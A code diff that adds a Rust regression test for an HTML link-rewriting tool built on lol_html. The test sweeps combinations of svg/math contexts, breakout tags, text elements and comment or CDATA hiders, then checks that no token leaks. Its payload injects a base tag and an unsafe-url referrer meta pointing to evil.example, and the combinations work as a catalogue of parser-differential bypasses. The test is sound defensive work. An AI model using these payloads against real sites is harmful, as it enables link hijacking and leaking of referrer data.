@@ -441,6 +441,93 @@ fn nested_foreign_content_where_lol_html_and_browsers_part() {
     }
 }
 
+/// The family of the last two `rewrite_pieces` findings, swept whole: a context where
+/// lol_html's foreign content may not be a browser's (nested `<svg>`/`<math>`, one in a
+/// `<select>`, one closed by another end tag, a self-closed one, integration points), a tag
+/// that may take a browser out of it, a text element, a construct in its text that may hide
+/// what follows from lol_html (a comment, an attribute value, an end tag's attributes, a CDATA
+/// section), then a `<base>` and a `<meta name=referrer>` after the text element's end tag,
+/// between a link before and one after. No token may leak in any reading: 123 of these pages
+/// (the `<title>` family) leaked before the last fix.
+#[test]
+fn text_elements_after_foreign_content_breakouts_in_every_combination() {
+    let contexts = [
+        "<svg><svg>",
+        "<math><math>",
+        "<svg><math>",
+        "<math><svg>",
+        "<select><svg>",
+        "<select><math>",
+        "<svg><select><svg>",
+        "<div><svg></div>",
+        "<svg/>",
+        "<math/>",
+        "<svg><title></svg>",
+        "<svg><foreignObject><svg>",
+        "<math><mtext><svg>",
+        "<table><svg>",
+        "<svg><desc><svg>",
+        "<template><svg><svg>",
+        "<svg>",
+        "<math>",
+        "<select>",
+        "<svg><title><title>",
+        "<math><mi><mo>",
+        "<svg><svg></svg>",
+        "<math><annotation-xml encoding=text/html><svg>",
+    ];
+    let breakouts = [
+        "",
+        "<img src=/i>",
+        "<p>",
+        "<div>",
+        "<br>",
+        "<b>",
+        "<table>",
+        "<font color=red>",
+        "<ul>",
+        "<pre>",
+        "</p>",
+        "</br>",
+        "<span>",
+        "<center>",
+        "<body>",
+    ];
+    let texts = [
+        "title", "style", "script", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe",
+    ];
+    let hiders = [
+        ("<!--", "-->"),
+        ("<x a=\"", "\">"),
+        ("</p a=\"", "\">"),
+        ("<![CDATA[", "]]>"),
+    ];
+    let payload = "<base href=https://evil.example/><meta name=referrer content=unsafe-url><img src=https://evil.example/i>";
+    let mut leaking = Vec::new();
+    for context in contexts {
+        for breakout in breakouts {
+            for text in texts {
+                for (hide, unhide) in hiders {
+                    let page = format!(
+                        "<a href=/n>n</a>{context}{breakout}<{text}>{hide}</{text}>{payload}{unhide}<a href=/m>m</a>"
+                    );
+                    for use_get in [false, true] {
+                        let verdicts = properties::rewrite_verdicts(page.as_bytes(), &[], use_get);
+                        if verdicts.iter().any(|verdict| !verdict.leaks.is_empty()) {
+                            leaking.push((page.clone(), use_get));
+                        }
+                    }
+                }
+            }
+        }
+    }
+    assert!(
+        leaking.is_empty(),
+        "{} pages leak: {leaking:#?}",
+        leaking.len()
+    );
+}
+
 /// A text element's start tag whose last attribute has `=` and no value (`<title a=>`): lol_html
 /// 3 goes to the data state after it, not to the element's text state, and reads the text as
 /// markup. Found by `rewrite_html` as a link's token in script text; a `<!--` in that text
